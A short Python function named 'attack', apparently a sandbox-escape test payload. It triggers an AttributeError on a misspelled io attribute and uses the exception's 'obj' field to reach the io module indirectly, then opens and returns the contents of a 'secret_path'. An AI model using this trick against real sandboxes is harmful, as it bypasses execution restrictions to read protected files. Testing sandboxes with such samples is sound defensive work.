# Takes an object from the exception that names it.
def attack(secret_path):
    import io

    try:
        io.opne
    except AttributeError as error:
        return error.obj.open(secret_path).read()
